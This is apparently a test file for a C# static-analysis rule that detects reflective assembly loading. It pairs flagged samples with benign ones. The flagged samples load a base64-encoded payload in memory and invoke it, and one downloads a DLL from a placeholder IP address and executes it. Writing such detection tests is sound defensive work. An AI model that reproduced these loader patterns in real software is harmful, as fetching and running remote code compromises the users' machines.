// ruleid: cs-reflective-load-base64
var asm = Assembly.Load(Convert.FromBase64String(Payload));
asm.EntryPoint.Invoke(null, new object[] { new string[0] });
// ===== block =====
var bytes = await http.GetByteArrayAsync("http://203.0.113.7/m.dll");
// ruleid: cs-reflective-load-base64
Assembly.Load(bytes).GetType("M.Entry").GetMethod("Run").Invoke(null, null);
// ===== block =====
// ok: cs-reflective-load-base64
var avatar = Convert.FromBase64String(user.AvatarBase64);
// ===== block =====
// ok: cs-reflective-load-base64
var plugin = Assembly.LoadFrom(Path.Combine(pluginDir, "Reports.dll"));
// ===== block =====
// ok: cs-reflective-load-base64
var core = Assembly.Load("MyApp.Core");
